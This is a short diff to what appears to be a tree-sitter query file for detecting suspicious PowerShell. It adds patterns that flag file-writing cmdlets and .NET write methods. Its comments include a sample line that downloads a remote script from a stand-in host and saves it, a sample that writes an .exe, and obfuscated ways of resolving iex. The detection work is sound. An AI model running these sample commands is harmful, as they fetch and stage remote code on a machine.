@@ -98,3 +98,11 @@
 ; & (Get-Command i*x)   & (Get-Alias iex)
 ((command_name) @flow.locator
   (#word-like? @flow.locator "get-command" "gcm" "get-alias" "gal"))
+
+; irm https://x.example/a.ps1 | Out-File a.ps1
+((command_name) @flow.write
+  (#word-like? @flow.write "out-file" "set-content" "add-content" "sc" "ac" "tee-object" "tee"))
+
+; [IO.File]::WriteAllBytes("a.exe", $data)
+((member_name) @flow.write.method
+  (#word-like? @flow.write.method "writeallbytes" "writealltext" "writealllines"))
